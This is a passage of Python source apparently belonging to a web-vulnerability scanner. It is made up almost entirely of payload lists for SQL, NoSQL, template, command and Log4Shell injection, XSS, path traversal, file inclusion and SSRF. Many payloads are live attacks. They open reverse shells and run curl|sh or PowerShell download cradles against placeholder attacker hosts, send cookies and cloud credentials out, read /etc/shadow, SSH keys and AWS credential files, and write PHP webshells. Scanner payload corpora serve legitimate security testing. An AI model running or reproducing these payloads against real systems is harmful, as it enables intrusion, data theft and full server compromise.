    P("1' RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))-- -", "str"),
    P("x' AND 1=0 UNION SELECT 'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- -", "str"),
    P("1' UNION SELECT @@version,NULL,NULL#", "str"),
    P("1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "num"),
    P("admin' AND password LIKE 'a%'-- -", "str"),
    P("1' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1", "str"),
    P("(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' "
      "THEN price ELSE name END)", "order"),
    P("price,(SELECT SLEEP(5))", "order"),
    P("name ASC,IF((SELECT 1)=1,SLEEP(5),1)", "order"),
    # PostgreSQL
    P("1; SELECT pg_sleep(5)--", "num"),
    P("1' AND 1=(SELECT 1 FROM pg_sleep(5))--", "str"),
    P("1'||pg_sleep(5)--", "str"),
    P("1' AND 1=CAST((SELECT version()) AS int)--", "str"),
    P("1 AND 7778=CAST((CHR(113)||(SELECT current_user)||CHR(113)) AS NUMERIC)", "num"),
    P(f"1'; COPY (SELECT '') TO PROGRAM 'curl http://{DROP}/x|sh'--", "str"),
    P("1; CREATE TABLE cmd_out(o text); COPY cmd_out FROM PROGRAM 'id';--", "num"),
    P("-1 UNION SELECT NULL,string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--", "num"),
    # Microsoft SQL Server
    P("1; WAITFOR DELAY '0:0:5'--", "num"),
    P("1' WAITFOR DELAY '00:00:05'--", "str"),
    P("1'; EXEC master..xp_cmdshell 'whoami'--", "str"),
    P("1'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure "
      "'xp_cmdshell',1; RECONFIGURE;--", "str"),
    P("1 AND 1=CONVERT(int,@@version)--", "num"),
    P("1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--", "str"),
    P("-1 UNION SELECT NULL,name,NULL FROM master..sysdatabases--", "num"),
    P("1'; IF (SELECT COUNT(*) FROM users WHERE username='admin' AND "
      "SUBSTRING(password,1,1)='a')=1 WAITFOR DELAY '0:0:5'--", "str"),
    P(f"1;DECLARE @q VARCHAR(99);SET @q='\\\\{ALT}\\s';EXEC master.dbo.xp_dirtree @q--", "num"),
    P("' HAVING 1=1--", "str"),
    P("' GROUP BY users.id HAVING 1=1--", "str"),
    # Oracle
    P("1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--", "str"),
    P("' UNION SELECT NULL,banner FROM v$version--", "str"),
    P("1' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--", "str"),
    P("1' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--", "str"),
    P("' UNION SELECT username,password FROM dba_users--", "str"),
    P(f"1'||UTL_HTTP.REQUEST('http://{OOB}/'||(SELECT user FROM dual))||'", "str"),
    # SQLite
    P("' UNION SELECT 1,sql,3 FROM sqlite_master--", "str"),
    P("1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--", "str"),
    P("' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--", "str"),
    P("1'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(c text); INSERT INTO "
      "x.p VALUES('<?php system($_GET[\"c\"]);?>');--", "str"),
    P("1' AND substr(sqlite_version(),1,1)='3'--", "str"),
]

XSS_JS = "alert(document.domain)"
XSS = [
    P("<script>alert(document.domain)</script>"),
    P("\"><script>alert(1)</script>", flags={"attr"}),
    P(f"'><script src=https://{EVIL}/x.js></script>", flags={"attr"}),
    P("<img src=x onerror=alert(1)>"),
    P("\"><img src=x onerror=alert(document.cookie)>", flags={"attr"}),
    P("<svg onload=alert(1)>"),
    P(f"<svg/onload=fetch('//{EVIL}/c?'+document.cookie)>"),
    P("<body onload=alert(document.domain)>"),
    P("\" onmouseover=\"alert(1)", flags={"attr"}),
    P("' autofocus onfocus='alert(1)", flags={"attr"}),
    P("\" autofocus onfocus=alert(document.domain) x=\"", flags={"attr"}),
    P("javascript:alert(document.cookie)", "url"),
    P("javascript://%0aalert(document.domain)", "url"),
    P("JaVaScRiPt:alert(1)", "url"),
    P("data:text/html;base64," + b64("<script>alert(document.domain)</script>"), "url"),
    P("<a href=\"javascript:alert(1)\">click</a>"),
    P("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    P("<iframe srcdoc=\"&lt;img src=x onerror=alert(document.domain)&gt;\"></iframe>",
      enc="html-entity"),
    P("<iframe src=\"javascript:alert(1)\"></iframe>"),
    P("<details open ontoggle=alert(1)>"),
    P("<input autofocus onfocus=alert(1)>"),
    P("<video><source onerror=alert(1)></video>"),
    P("<audio src=x onerror=alert(1)>"),
    P("<marquee onstart=alert(1)>"),
    P("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    P("</script><script>alert(1)</script>", "js"),
    P("';alert(document.domain);//", "js"),
    P("\"-alert(1)-\"", "js"),
    P("\\\";alert(1);//", "js"),
    P("alert(document.domain)//", "jsonp"),
    P("<object data=\"javascript:alert(1)\"></object>"),
    P("<embed src=\"data:text/html;base64," + b64("<script>alert(1)</script>") + "\">"),
    P("<form action=\"javascript:alert(1)\"><input type=submit>"),
    P("<button formaction=javascript:alert(1)>x</button>"),
    P("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    P("<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>"
      "click</text></a></svg>"),
    P("<img src=x onerror=\"eval(atob('" + b64("alert(document.cookie)") + "'))\">"),
    P(f"<img src=x onerror=this.src='//{EVIL}/?c='+document.cookie>"),
    P(f"<script>new Image().src=\"https://{EVIL}/c?\"+document.cookie</script>"),
    P("<a href=\"" + entities("javascript:", "dec") + "alert(1)\">x</a>", enc="html-entity"),
    P("<img src=x onerror=\"" + entities(XSS_JS, "hex") + "\">", enc="html-entity"),
    P("<a href=\"" + entities("javascript:alert(1)", "pad") + "\">x</a>", enc="html-entity"),
    P("<svg><script>alert&#40;1&#41;</script></svg>", enc="html-entity"),
    P("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    P("<img src=x onerror=alert`1`>"),
    P("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    P(f"<base href=\"https://{EVIL}/\">"),
    P("<div onpointerover=\"alert(1)\">hover me</div>"),
    P("<x contenteditable onblur=alert(1)>lose focus"),
    P(f"\"><svg onload=import('//{EVIL}/x.js')>", flags={"attr"}),
    P("<img src=1 onerror=window['al'+'ert'](1)>"),
    P(f"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>fetch('https://{EVIL}/?d='+"
      "btoa(t)))</script>"),
    P("{{constructor.constructor('alert(1)')()}}"),
    P("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    P("</textarea><script>alert(1)</script>"),
    P("</title><svg onload=alert(1)>"),
    P("--><img src=x onerror=alert(1)>"),
    P("<img src=x onerror=\\u0061lert(1)>", enc="js-escape"),
    P("<svg><use href=\"data:image/svg+xml;base64," + b64(
        "<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/>"
        "</svg>") + "#x\"/></svg>"),
]

REV_BASH = f"bash -i >& /dev/tcp/{C2}/4444 0>&1"
PS_CRADLE = f"IEX(New-Object Net.WebClient).DownloadString('http://{DROP}/a.ps1')"
RCE = [
    P("; id", flags={"unix"}),
    P("| id", flags={"unix"}),
    P("|| id", flags={"unix"}),
    P("&& id", flags={"unix"}),
    P("$(id)", flags={"unix"}),
    P("`id`", flags={"unix"}),
    P("127.0.0.1; cat /etc/passwd", flags={"unix", "ifs"}),
    P("127.0.0.1 && whoami", flags={"unix", "ifs"}),
    P(f"127.0.0.1 | nc {C2} 4444 -e /bin/sh", flags={"unix", "ifs"}),
    P(f";curl http://{DROP}/s.sh|sh", flags={"unix", "ifs"}),
    P(f"$(wget -qO- http://{DROP}/x|sh)", flags={"unix", "ifs"}),
    P(f";{REV_BASH}", flags={"unix"}),
    P(f";bash -c '{REV_BASH}'", flags={"unix"}),
    P("x;cat /etc/passwd", flags={"unix", "ifs"}),
    P(f";echo {b64('cat /etc/passwd')}|base64 -d|sh", flags={"unix", "ifs"}),
    P(f";python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{C2}\",4444));"
      "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
      flags={"unix"}),
    P(f";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {C2} 4444 >/tmp/f",
      flags={"unix", "ifs"}),
    P(f";perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{C2}:4444\");"
      "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", flags={"unix"}),
    P(";sleep 10", flags={"unix", "ifs"}),
    P("& ping -c 10 127.0.0.1 &", flags={"unix", "ifs"}),
    P(f";nslookup $(whoami).{OOB}", flags={"unix", "ifs"}),
    P(f"$(curl -d @/etc/passwd http://{DROP}/)", flags={"unix", "ifs"}),
    P("\nid\n", flags={"unix"}),
    P(";uname -a;", flags={"unix", "ifs"}),
    P(f";/bin/busybox wget http://{DROP}/mips -O /tmp/m; chmod +x /tmp/m; /tmp/m",
      flags={"unix", "ifs"}),
    P(f";cd /tmp; wget http://{DROP}/bins.sh; chmod 777 bins.sh; sh bins.sh",
      flags={"unix", "ifs"}),
    P(f"a;php -r '$sock=fsockopen(\"{C2}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
      flags={"unix"}),
    P(";/???/??t /???/p??s??", flags={"unix"}),
    P(";{cat,/etc/passwd}", flags={"unix"}),
    P(";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/sh.php", flags={"unix"}),
    P("|| ls -la /", flags={"unix", "ifs"}),
    P(";$(printf '\\x63\\x61\\x74') /etc/passwd", flags={"unix"}),
    P(";a=c;b=at;$a$b /etc/passwd", flags={"unix"}),
    P(";cat</etc/passwd", flags={"unix"}),
    P("() { :; }; echo; /bin/cat /etc/passwd", flags={"unix", "shellshock"}),
    P(f"() {{ :;}}; /bin/bash -c \"curl http://{DROP}/x | bash\"", flags={"unix", "shellshock"}),
    P(f"() {{ _; }} >_[$($())] {{ echo; /usr/bin/id; }}", flags={"unix", "shellshock"}),
    P("& whoami", flags={"win"}),
    P("| type C:\\Windows\\win.ini", flags={"win"}),
    P("& net user", flags={"win"}),
    P(f"&& powershell -nop -w hidden -c \"{PS_CRADLE}\"", flags={"win"}),
    P("| powershell -nop -enc " + b64(PS_CRADLE.encode("utf-16-le")), flags={"win"}),
    P(f"& certutil -urlcache -split -f http://{DROP}/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe",
      flags={"win"}),
    P("| cmd /c dir C:\\", flags={"win"}),
    P("& ping -n 10 127.0.0.1", flags={"win"}),
    P(f"& nslookup %USERNAME%.{OOB}", flags={"win"}),
    P(f"& bitsadmin /transfer j /download /priority high http://{DROP}/x.exe "
      "C:\\Users\\Public\\x.exe", flags={"win"}),
    P(f"| mshta http://{DROP}/x.hta", flags={"win"}),
    P("& systeminfo & ipconfig /all", flags={"win"}),
    P("';system('id');//", "code"),
    P(f"require('child_process').exec('curl http://{DROP}/x|sh')", "code"),
    P("__import__('os').popen('id').read()", "code"),
    P("1;system('cat /etc/passwd')", "code"),
    P("phpinfo();", "code"),
]

PATH_TRAVERSAL = [
    P("../../../../etc/passwd"),
    P("../../../../../../../../etc/passwd"),
    P("../../../../../../../../../../../../etc/passwd"),
    P("../../../etc/shadow"),
    P("..\\..\\..\\..\\windows\\win.ini", flags={"win"}),
    P("..\\..\\..\\..\\..\\boot.ini", flags={"win"}),
    P("..\\..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", flags={"win"}),
    P("..\\..\\..\\inetpub\\wwwroot\\web.config", flags={"win"}),
    P("....//....//....//etc/passwd"),
    P("..././..././..././..././etc/passwd"),
    P("....\\\\....\\\\....\\\\windows\\\\win.ini", flags={"win"}),
    P("/var/www/images/../../../etc/passwd"),
    P("../../../../etc/passwd\x00.png"),
    P("../../../../etc/hosts"),
    P("../../../../root/.ssh/id_rsa"),
    P("../../../../home/ubuntu/.aws/credentials"),
    P("../../../.env"),
    P("../../../../var/www/html/wp-config.php"),
    P("../../WEB-INF/web.xml"),
    P("..;/..;/..;/WEB-INF/web.xml"),
    P("../../../../etc/nginx/nginx.conf"),
    P("../../../config/database.yml"),
    P("..//..//..//..//etc//passwd"),
    P("/./././../../../../etc/passwd"),
    P("../../../../usr/local/etc/php/php.ini"),
    P("../../../../../opt/tomcat/conf/tomcat-users.xml"),
    P("../../../../proc/self/cwd/config.py"),
    P("..\\..\\..\\..\\..\\..\\windows\\system.ini", flags={"win"}),
    P("../../../../var/www/html/shell.php", "upload"),
    P("../../../../../etc/cron.d/backdoor", "upload"),
    P("..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", "upload", flags={"win"}),
    P("../../../../root/.ssh/authorized_keys", "upload"),
    P("../../../../../../tmp/../etc/group"),
    P("../../../../../../var/log/nginx/access.log"),
]

LFI = [
    P("/etc/passwd"),
    P("/etc/passwd\x00"),
    P("../../../../etc/passwd\x00"),
    P("php://filter/convert.base64-encode/resource=index.php", flags={"wrapper"}),
    P("php://filter/read=string.rot13/resource=config.php", flags={"wrapper"}),
    P("php://filter/convert.base64-encode/resource=../config/database.php", flags={"wrapper"}),
    P("php://filter/resource=/etc/passwd", flags={"wrapper"}),
    P("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8."
      "UTF7|convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.base64-decode/"
      "resource=php://temp", flags={"wrapper"}),
    P("php://input", flags={"wrapper"}),
    P("data://text/plain;base64," + b64("<?php system($_GET['c']); ?>"), flags={"wrapper"}),
    P("data:text/plain,<?php phpinfo(); ?>", flags={"wrapper"}),
    P("expect://id", flags={"wrapper"}),
    P("zip:///var/www/html/uploads/avatar.zip#shell", flags={"wrapper"}),
    P("phar:///var/www/html/uploads/avatar.jpg/shell", flags={"wrapper"}),
    P("compress.zlib:///etc/passwd", flags={"wrapper"}),
    P("file:///etc/passwd", flags={"wrapper"}),
    P("/proc/self/environ"),
    P("/proc/self/cmdline"),
    P("/proc/self/fd/10"),
    P("/proc/version"),
    P("/var/log/apache2/access.log"),
    P("/var/log/nginx/access.log"),
    P("../../../../var/log/auth.log"),
    P("/var/lib/php/sessions/sess_9f3kq2l0ab7c1m4n5o6p7q8r9s"),
    P("C:\\Windows\\win.ini", flags={"win"}),
    P("C:\\boot.ini", flags={"win"}),
    P("C:/xampp/apache/logs/access.log", flags={"win"}),
    P("/etc/shadow"),
    P("/root/.bash_history"),
    P("/WEB-INF/web.xml"),
    P("/usr/local/apache2/conf/httpd.conf"),
    P("../../../../etc/passwd" + "/." * 2100, only={"query", "form"}),
    P("<?php system($_GET['c']); ?>", only={"user-agent", "header"}, flags={"poison"}),
    P("<?php passthru(base64_decode($_SERVER['HTTP_X_C'])); ?>", only={"user-agent", "header"},
      flags={"poison"}),
    P("<?=`$_GET[0]`?>", only={"user-agent", "header"}, flags={"poison"}),
]

RFI = [
    P(f"http://{C2}/shell.txt?"),
    P(f"http://{EVIL}/c99.txt?"),
    P(f"https://{EVIL}/r57.php"),
    P(f"http://{C2}/shell.txt\x00"),
    P(f"ftp://{C2}/pub/shell.php"),
    P(f"ftp://anonymous:anon@{ALT}/x.txt?"),
    P(f"\\\\{ALT}\\share\\shell.php"),
    P(f"http://{EVIL}/shell.txt#"),
    P("http://3405803788/shell.txt?"),
    P(f"https://paste.{EVIL}/raw/x8Fk2?"),
    P(f"http://{EVIL}/wso.php?cmd=id&"),
    P(f"http://{ALT}/bot.txt??"),
    P(f"ftp://{ALT}/.x/mass.txt?"),
    P(f"http://{EVIL}/id.txt?"),
    P(f"http://{EVIL}:8080/inc/config.txt?"),
    P(f"http://{EVIL}/shell.jpg?"),
    P(f"https://{EVIL}/x/?"),
    P(f"http://user@{EVIL}/s.txt?"),
    P(f"//{EVIL}/s.php"),
    P(f"http://{C2}/php-reverse-shell.txt?"),
]

AWS = "http://169.254.169.254"
SSRF = [
    P(f"{AWS}/latest/meta-data/"),
    P(f"{AWS}/latest/meta-data/iam/security-credentials/"),
    P(f"{AWS}/latest/meta-data/iam/security-credentials/shop-prod-ec2"),
    P(f"{AWS}/latest/user-data"),
    P(f"{AWS}/latest/dynamic/instance-identity/document"),
    P("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/"
      "token"),
    P("http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/"
      "default/token"),
    P(f"{AWS}/computeMetadata/v1/instance/attributes/?recursive=true&alt=json"),
    P(f"{AWS}/metadata/instance?api-version=2021-02-01"),
    P("http://100.100.100.200/latest/meta-data/"),
    P(f"{AWS}/opc/v2/instance/"),
    P("http://169.254.170.2/v2/credentials/"),
    P("http://[fd00:ec2::254]/latest/meta-data/"),
    P("http://instance-data/latest/meta-data/"),
    P("http://127.0.0.1:8080/admin"),
    P("http://localhost/server-status"),
    P("http://127.1/admin"),
    P("http://0.0.0.0:22/"),
    P("http://0/"),
    P("http://[::1]/admin"),
    P("http://[::ffff:127.0.0.1]/"),
    P("http://2130706433/"),
    P("http://0x7f000001/"),
    P("http://0177.0.0.1/"),
    P("http://2852039166/latest/meta-data/"),
    P("http://0xa9fea9fe/latest/meta-data/"),
    P("http://0251.0376.0251.0376/latest/meta-data/"),
    P("http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    P("http://169.254.169.254.nip.io/latest/meta-data/"),
    P("http://127.0.0.1.nip.io:8080/actuator/env"),
    P(f"http://{SITE}@127.0.0.1/admin"),
    P(f"http://127.0.0.1:80\\@{SITE}/"),
    P("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D"
      "%0A%241%0D%0A1%0D%0A%2457%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E"
      f"%26%20%2Fdev%2Ftcp%2F{C2}%2F4444%200%3E%261%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D"
      "%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%2F%0D%0A%2A4"
      "%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%2410%0D%0Adbfilename%0D%0A%244%0D%0Aroot"
      "%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A"),
    P("gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3Cadmin%40shop.example.com"
      f"%3E%0D%0ARCPT%20TO%3A%3Cvictim%40{EVIL}%3E%0D%0ADATA%0D%0ASubject%3A%20reset%0D%0A%0D%0A"
      "pwned%0D%0A.%0D%0AQUIT%0D%0A"),
    P("gopher://127.0.0.1:11211/_set%20session%3Aadmin%200%200%204%0D%0Apwnd%0D%0A"),
    P("dict://127.0.0.1:6379/info"),
    P("dict://127.0.0.1:11211/stats"),
    P("file:///etc/passwd"),
    P("file:///proc/self/environ"),
    P("file:///c:/windows/win.ini"),
    P("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    P("http://127.0.0.1:2375/containers/json"),
    P("http://127.0.0.1:9200/_cat/indices"),
    P("http://127.0.0.1:8500/v1/agent/self"),
    P("http://10.0.0.1/"),
    P(f"jar:http://{EVIL}/x.zip!/file.txt"),
    P("netdoc:///etc/passwd"),
    P(f"sftp://{EVIL}:11111/"),
    P(f"tftp://{EVIL}:69/x"),
    P("http://localhost:8080/actuator/heapdump"),
]

SSTI = [
    P("{{config}}"),
    P("{{config.items()}}"),
    P("{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    P("{{''.__class__.__mro__[1].__subclasses__()}}"),
    P("{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    P("{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}"),
    P("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    P("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5f"
      "getitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
      "('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
    P("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings'"
      " %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()"
      "\") }}{% endif %}{% endfor %}"),
    P("{{get_flashed_messages.__globals__.current_app.config}}"),
    P(f"{{{{namespace.__init__.__globals__.os.popen('curl http://{DROP}/x|sh').read()}}}}"),
    P("{{joiner.__init__.__globals__.os.popen('id').read()}}"),
    P("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    P("{{['id']|filter('system')}}"),
    P("{{['cat /etc/passwd']|map('system')|join}}"),
    P("{{[0]|reduce('system','id')}}"),
    P("{{app.request.server.all|join(',')}}"),
    P("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    P("${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    P("${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\","
      "\"id\").start()}"),
    P("${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()"
      ".resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
    P("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName("
      "'java.lang.Character'))#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt"
      ".getRuntime().exec('id'))$ex.waitFor()#set($out=$ex.getInputStream())#foreach($i in "
      "[1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end"),
    P("#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
      f".invoke(null,null).exec(\"curl http://{DROP}/x -o /tmp/x\")"),
    P("<%= system('id') %>"),
    P("<%= `cat /etc/passwd` %>"),
    P("<%= File.open('/etc/passwd').read %>"),
    P("<%= IO.popen('id').readlines() %>"),
    P("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    P("${T(java.lang.Runtime).getRuntime().exec('id')}"),
    P("*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime()"
      ".exec('id').getInputStream())}"),
    P("#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}"),
    P("${new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()}"),
    P("__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\")"
      ".getInputStream()).next()}__::.x"),
    P("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
      "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as "
      "|codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}"
      "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}"
      "{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    P("{system('id')}"),
    P("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
      "self::clearConfig())}"),
    P("<% import os; x=os.popen('id').read() %>${x}"),
    P("{% import os %}{{ os.popen('id').read() }}"),
    P("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("
      "\"child_process\").exec('id')}()}"),
    P("{{range.constructor(\"return global.process.mainModule.require('child_process')"
      ".execSync('id')\")()}}"),
    P("<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    P("@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    P("{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}}:"
      "{{e.user.password}}{% endfor %}"),
]

LDAP = f"ldap://{C2}:1389"
LOG4SHELL = [
    P(f"${{jndi:{LDAP}/Exploit}}"),
    P(f"${{jndi:ldap://x3k9f.{OOB}/a}}"),
    P(f"${{jndi:ldaps://{OOB}/a}}"),
    P(f"${{jndi:rmi://{C2}:1099/Object}}"),
    P(f"${{jndi:dns://{OOB}/a}}"),
    P(f"${{jndi:iiop://{C2}:1050/a}}"),
    P(f"${{jndi:ldap://${{env:AWS_SECRET_ACCESS_KEY}}.{OOB}/a}}"),
    P(f"${{jndi:ldap://${{sys:java.version}}.{OOB}/v}}"),
    P(f"${{jndi:ldap://${{hostName}}.{OOB}/h}}"),
    P(f"${{${{lower:j}}ndi:${{lower:l}}dap://{OOB}/a}}"),
    P(f"${{${{upper:j}}ndi:ldap://{OOB}/b}}"),
    P(f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{C2}:1099/poc}}"),
    P(f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{OOB}/c}}"),
    P(f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{OOB}/d}}"),
    P(f"${{${{env:ENV_NAME:-j}}ndi${{env:ENV_NAME:-:}}${{env:ENV_NAME:-l}}dap"
      f"${{env:ENV_NAME:-:}}//{OOB}/e}}"),
    P(f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:ldap://{OOB}/f}}"),
    P(f"${{jn${{lower:d}}i:l${{lower:d}}ap://{OOB}/g}}"),
    P(f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{OOB}/i}}"),
    P(f"${{j${{main:\\k5:-Nd}}i${{spring:k5:-:}}ldap://{OOB}/j}}"),
    P(f"${{${{::-j}}ndi:rmi://{OOB}/k}}"),
    P(f"${{jndi:ldap://127.0.0.1#{OOB}:1389/l}}"),
    P(f"${{jndi:{LDAP}/Basic/Command/Base64/{b64(f'curl http://{DROP}/x|sh')}}}"),
    P(f"${{jndi:{LDAP}/TomcatBypass/Command/Base64/{b64('touch /tmp/pwned')}}}"),
    P(f"${{${{lower:${{lower:jndi}}}}:${{lower:rmi}}://{OOB}/m}}"),
    P(f"${{jndi:{LDAP}/o=tomcat}}"),
    P(f"${{jndi:ldap://${{ctx:loginId}}.{OOB}/n}}"),
    P(f"${{jndi:ldap://${{java:version}}.{OOB}/o}}"),
    P(f"${{jndi:dns://${{env:HOSTNAME}}.{OOB}}}"),
    P(f"${{jndi:ldap://${{env:AWS_ACCESS_KEY_ID}}.${{env:AWS_SECRET_ACCESS_KEY}}.{OOB}/p}}"),
    P(f"${{${{lower:jnd}}${{lower:i}}:ldap://{OOB}/q}}"),
    P(f"${{jndi:ldap://x${{hostName}}.L4J.{OOB}/r}}"),
    P(f"${{${{::-j}}ndi:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{ALT}:389/s}}"),
    P(f"${{jndi:nis://{C2}/t}}"),
    P(f"${{jndi:nds://{C2}/u}}"),
    P(f"${{jndi:corba://{C2}/v}}"),
    P(f"${{jndi:http://{C2}/w}}"),
]

NOSQL = [
    # JSON bodies (Express/Mongoose style handlers that pass the body to find()).
    P({"username": "admin", "password": {"$ne": None}}, "auth", only={"json", "cookie"}),
    P({"username": {"$ne": None}, "password": {"$ne": None}}, "auth", only={"json", "cookie"}),
    P({"username": {"$gt": ""}, "password": {"$gt": ""}}, "auth", only={"json", "cookie"}),
    P({"username": "admin", "password": {"$regex": "^a"}}, "auth", only={"json"}),
    P({"username": {"$regex": "^adm"}, "password": {"$regex": ".*"}}, "auth", only={"json"}),
    P({"username": {"$in": ["admin", "administrator", "root"]}, "password": {"$ne": "x"}},
      "auth", only={"json"}),
    P({"username": "admin", "password": {"$exists": True}}, "auth", only={"json"}),
    P({"username": "admin", "password": {"$not": {"$eq": "x"}}}, "auth", only={"json"}),
    P({"username": "admin", "password": {"$type": 2}}, "auth", only={"json"}),
    P({"username": "admin", "password": {"$gte": ""}}, "auth", only={"json"}),
    P({"$or": [{"username": "admin"}, {"username": {"$ne": None}}], "password": {"$ne": None}},
      "auth", only={"json"}),
    P({"email": {"$nin": [""]}, "password": {"$ne": ""}}, "auth", only={"json"}),
    P({"$where": "this.password.match(/^a.*/)"}, "filter", only={"json"}),
    P({"$where": "sleep(5000) || true"}, "filter", only={"json"}),
    P({"filter": {"price": {"$gt": 0}, "$where": "function(){return this.role=='admin'}"}},
      "filter", only={"json"}),
    P({"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}",
                                          "args": [], "lang": "js"}}}}, "filter", only={"json"}),
    P({"token": {"$ne": ""}, "newPassword": "Pwned123!"}, "reset", only={"json", "cookie"}),
    P({"_id": {"$ne": "000000000000000000000000"}}, "filter", only={"json"}),
    P({"filter": {"owner": {"$regex": ".*"}, "status": {"$in": ["paid", "shipped"]}}}, "filter",
      only={"json"}),
    P({"pipeline": [{"$lookup": {"from": "users", "localField": "customerId",
                                 "foreignField": "_id", "as": "u"}}]}, "filter", only={"json"}),
    # Bracket keys (qs / PHP / body-parser extended turn them into objects).
    P([("username", "admin"), ("password[$ne]", "x")], "auth",
      only={"query", "form", "multipart"}),
    P([("username[$ne]", "x"), ("password[$ne]", "x")], "auth",
      only={"query", "form", "multipart"}),
    P([("username[$regex]", "^a"), ("password[$ne]", "1")], "auth",
      only={"query", "form", "multipart"}),
